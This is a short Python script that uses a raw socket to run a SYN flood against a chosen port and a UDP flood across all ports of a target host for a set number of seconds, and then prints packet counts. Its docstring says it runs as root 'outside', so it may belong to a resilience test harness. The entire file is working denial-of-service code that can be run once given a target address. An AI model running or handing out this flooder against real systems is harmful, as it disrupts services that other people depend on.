"""Runs as root outside: floods the declared port with SYNs and all ports with UDP.

Standard library and packets.py beside it only; argv: own address, target, port, seconds. Prints what
was sent: SYNs, datagrams, and what the kernel refused.
"""

import itertools
import random
import socket
import sys
import time

from packets import ip4, stencil, tcp, udp


def main():
    own, target, port, seconds = sys.argv[1], sys.argv[2], int(sys.argv[3]), float(sys.argv[4])
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    syn = stencil(tcp(b"", port, 0, flags=2), own, target, 0)
    ports = itertools.cycle(range(1024, 65536))  # each is a connection of its own to track
    noise = [
        ip4(17, udp(b"\0" * 1200, random.randrange(1, 65536)), own, target) for _ in range(512)
    ]
    sent = {"syn": 0, "udp": 0, "refused": 0}
    ends = time.monotonic() + seconds
    while time.monotonic() < ends:
        for name in ("syn", "syn", "udp"):
            for _ in range(16):
                try:
                    packet = syn(next(ports)) if name == "syn" else random.choice(noise)
                    raw.sendto(packet, (target, 0))
                    sent[name] += 1
                except OSError:
                    sent["refused"] += 1
    sys.stdout.write(f"{sent['syn']} {sent['udp']} {sent['refused']}\n")


if __name__ == "__main__":
    main()
